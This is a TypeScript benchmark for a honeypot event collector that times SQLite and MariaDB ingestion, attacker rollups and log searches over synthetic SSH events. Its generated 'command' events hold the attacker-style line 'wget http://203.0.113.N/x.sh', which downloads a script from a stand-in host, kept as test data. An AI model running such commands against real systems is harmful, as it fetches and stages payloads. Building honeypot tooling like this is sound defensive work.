/**
 * The collector's storage side on SQLite (file, WAL) and a real MariaDB:
 * events/s stored from 10 sensor containers in the collector's batches
 * (with the attacker rollup and credentials), the rollup's share of that
 * cost, and attacker/log list latency over a large table. Loads are scaled
 * by BENCH_EVENTS (default 200,000 for the list table).
 */
import { createRepositories, openMigratedDatabase } from "../../core/db/mod.ts";
import type { DbHandle, Repositories, SensorLogPosition } from "../../core/db/mod.ts";
import type { SensorEvent } from "../../core/sensor/sensor_event.ts";
import { mariaDbUnavailable, startMariaDb } from "../infra/mariadb.ts";
import { formatTimings, timeIt } from "./bench_stats.ts";

const BATCH = 500;
const SENSORS = 10;
const LIST_EVENTS = Number(Deno.env.get("BENCH_EVENTS") ?? 200_000);

function event(i: number, sensor: number): SensorEvent {
  const kinds = ["connect", "auth_attempt", "credential", "command", "disconnect"] as const;
  const kind = kinds[i % kinds.length];
  return {
    v: 1,
    time: new Date(Date.UTC(2026, 11, 1, 10, 0, 0, i)).toISOString(),
    decky: `decky-${sensor}`,
    service: "ssh",
    kind,
    // 10,000 distinct sources, as the figure asks.
    src_ip: `198.51.${Math.floor(i / 250) % 40}.${i % 250}`,
    src_port: 40000 + (i % 20000),
    dst_port: 22,
    session: `s${sensor}-${Math.floor(i / 5)}`,
    username: "root",
    ...(kind === "credential" ? { secret_kind: "password", secret: `pw${i % 997}` } : {}),
    ...(kind === "command" ? { command: `wget http://203.0.113.${i % 200}/x.sh` } : {}),
  };
}

async function ingest(repos: Repositories, total: number, benign: boolean): Promise<number> {
  const positions: SensorLogPosition[] = Array.from(
    { length: SENSORS },
    () => ({ logTime: "", linesAtTime: 0 }),
  );
  const started = performance.now();
  for (let done = 0; done < total; done += BATCH * SENSORS) {
    for (let s = 0; s < SENSORS; s++) {
      const events = Array.from({ length: BATCH }, (_, k) => event(done + s * BATCH + k, s));
      const to = { logTime: events.at(-1)!.time + `${s}${done}`, linesAtTime: 1 };
      await repos.attackers.storeSensorBatch({
        container: `bench-${benign}-${s}`,
        decky: `decky-${s}`,
        from: positions[s],
        to,
        events,
        badLines: 0,
        // Benign: the events are stored but fold into no attacker (the rollup's share).
        isBenign: () => benign,
      });
      positions[s] = to;
    }
  }
  return total / ((performance.now() - started) / 1000);
}

async function run(label: string, open: () => Promise<DbHandle>): Promise<void> {
  {
    await using handle = await open();
    const repos = createRepositories(handle);
    const withRollup = await ingest(repos, 50_000, false);
    const withoutRollup = await ingest(repos, 50_000, true);
    console.log(
      `${label}: ${withRollup.toFixed(0)} events/s stored from ${SENSORS} sensors with rollup ` +
        `(${withoutRollup.toFixed(0)} events/s without; rollup ${
          (1e6 / withRollup - 1e6 / withoutRollup).toFixed(1)
        } µs per event)`,
    );
  }
  await using handle = await open();
  const repos = createRepositories(handle);
  await ingest(repos, LIST_EVENTS, false);
  const { total: attackers } = await repos.attackers.listAttackers({ limit: 1, offset: 0 });
  const list = await timeIt(50, () => repos.attackers.listAttackers({ limit: 50, offset: 0 }));
  const logs = await timeIt(50, () => repos.attackers.listServiceEvents({ limit: 50, offset: 0 }));
  const search = await timeIt(
    10,
    () => repos.attackers.listServiceEvents({ q: "203.0.113.7/", limit: 50, offset: 0 }),
    1,
  );
  console.log(`${label}: ${LIST_EVENTS} events, ${attackers} attackers`);
  console.log(formatTimings(`${label} list attackers (50)`, list));
  console.log(formatTimings(`${label} list logs (50)`, logs));
  console.log(formatTimings(`${label} search logs by command text`, search));
}

const dir = await Deno.makeTempDir({ prefix: "collector-bench-" });
let n = 0;
await run("SQLite", () => openMigratedDatabase(`sqlite:${dir}/db${n++}.sqlite`));
const why = mariaDbUnavailable();
if (why) console.log(`MariaDB skipped: ${why}`);
else {
  await using server = await startMariaDb();
  await run("MariaDB", async () => openMigratedDatabase(await server.createDatabase(`b${n++}`)));
}
await Deno.remove(dir, { recursive: true });
